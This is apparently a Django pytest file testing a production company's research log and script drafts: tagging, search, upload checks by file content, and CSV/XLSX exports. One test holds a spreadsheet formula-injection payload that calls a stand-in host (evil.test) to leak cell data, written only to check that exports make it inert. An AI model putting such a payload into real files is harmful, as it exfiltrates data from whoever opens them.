"""The research log: who added a note, its tags; searchable by text and tag; exportable;
attachments checked by content. Drafts: Fountain and PDF taken, HTML refused; exportable, a
formula-like title written as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from apps.development.models import Draft, ResearchNote
from tests.factories import ProductionFactory

pytestmark = pytest.mark.django_db


def url(production, name, **kwargs):
    return reverse(f"development:{name}", kwargs={"production_slug": production.slug, **kwargs})


def add(client, production, **data):
    return client.post(url(production, "research_new"), {"source_kind": "book", **data})


def test_a_note_records_who_added_it_and_its_tags(ap_client, production, ap):
    response = add(
        ap_client, production, title="Harbour strikes", citation="Dock Life, p. 12",
        tags="Harbour; 1950s, harbour ", body="The 1958 strike stopped the ferries.",
    )  # fmt: skip
    assert response.status_code == 302
    note = ResearchNote.objects.get()
    assert (note.added_by, note.tags, note.source_kind) == (ap, "harbour, 1950s", "book")
    assert ResearchNote.history.get().history_user == ap


def test_the_log_is_searchable_by_text_and_by_whole_tag(ap_client, production):
    add(ap_client, production, title="Harbour strikes", tags="harbour, 1950s", body="ferries")
    add(ap_client, production, title="Lighthouse keepers", tags="harbours-abroad", body="lamps")
    add(ap_client, production, title="Ferry menus", tags="food", citation="Interview, Ana")
    page = ap_client.get(url(production, "research"), {"q": "ferr"})
    assert [n.title for n in page.context["notes"]] == ["Ferry menus", "Harbour strikes"]
    by_tag = ap_client.get(url(production, "research"), {"tag": "harbour"})
    assert [n.title for n in by_tag.context["notes"]] == ["Harbour strikes"]
    assert ap_client.get(url(production, "research"), {"q": "ana"}).context["notes"][0].title == (
        "Ferry menus"
    )
    rows = list(
        csv.reader(
            io.StringIO(
                ap_client.get(
                    url(production, "research_export", fmt="csv"), {"tag": "food"}
                ).content.decode()
            )
        )
    )
    assert rows[0][0] == "Title" and [r[0] for r in rows[1:]] == ["Ferry menus"]


def test_an_attachment_is_checked_by_its_bytes(ap_client, production):
    bad = SimpleUploadedFile("photo.png", b"MZ\x90\x00 not a picture")
    response = add(ap_client, production, title="Bad", attachment=bad)
    assert response.status_code == 200 and "must be a PDF" in response.content.decode()
    assert not ResearchNote.objects.exists()
    good = SimpleUploadedFile("notes.txt", b"%PDF-1.4\n%%EOF\n")
    assert add(ap_client, production, title="Good", attachment=good).status_code == 302
    note = ResearchNote.objects.get()
    served = ap_client.get(url(production, "research_file", pk=note.pk))
    assert served["Content-Type"] == "application/pdf"


def test_drafts_take_scripts_and_refuse_markup(ap_client, production, ap):
    data = {"title": "Second draft", "draft_date": "2026-03-01", "authors": "A. Writer, B. Writer"}
    html = SimpleUploadedFile("draft.fountain", b"<html><body>hi</body></html>")
    response = ap_client.post(url(production, "draft_new"), {**data, "file": html})
    assert response.status_code == 200 and "Final Draft" in response.content.decode()
    fountain = SimpleUploadedFile("draft.txt", b"Title: Night Ferry\n\nINT. FERRY - NIGHT\n")
    assert (
        ap_client.post(url(production, "draft_new"), {**data, "file": fountain}).status_code == 302
    )
    draft = Draft.objects.get()
    assert (draft.uploaded_by, draft.authors) == (ap, "A. Writer, B. Writer")
    page = ap_client.get(url(production, "drafts")).content.decode()
    assert "Second draft" in page and "1 Mar 2026" in page
    served = ap_client.get(url(production, "draft_file", pk=draft.pk))
    assert served["Content-Type"].startswith("text/plain")


def test_the_drafts_export_to_csv_and_xlsx_and_a_formula_like_title_stays_text(
    ap_client, production, ap
):
    hostile = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    for title, day, authors in (
        (hostile, date(2026, 2, 1), "A. Writer"),
        ("Second draft", date(2026, 3, 1), "A. Writer, B. Writer"),
    ):
        Draft.objects.create(
            production=production, title=title, draft_date=day, authors=authors,
            uploaded_by=ap, notes="Act two rebuilt",
            file=SimpleUploadedFile("d.fountain", b"INT. FERRY - NIGHT\n\nThe sea."),
        )  # fmt: skip
    Draft.objects.create(
        production=ProductionFactory(), title="Someone else's", draft_date=date(2026, 1, 1),
        authors="X", file=SimpleUploadedFile("x.fountain", b"INT. X - DAY\n"),
    )  # fmt: skip
    page = ap_client.get(url(production, "drafts")).content.decode()
    assert url(production, "drafts_export", fmt="csv") in page
    response = ap_client.get(url(production, "drafts_export", fmt="csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Title", "Date", "Author(s)", "File", "Notes", "Added by", "Added on"]
    assert [r[:3] for r in rows[1:]] == [
        ["Second draft", "2026-03-01", "A. Writer, B. Writer"],
        ["'" + hostile, "2026-02-01", "A. Writer"],
    ]  # newest first, as the page lists them; the formula inert
    assert rows[1][4:6] == ["Act two rebuilt", ap.display_name]
    assert rows[1][3].endswith(".fountain")
    response = ap_client.get(url(production, "drafts_export", fmt="xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {"Second draft", hostile}
    assert cells[hostile][0].data_type == "s"  # a string cell, never a formula
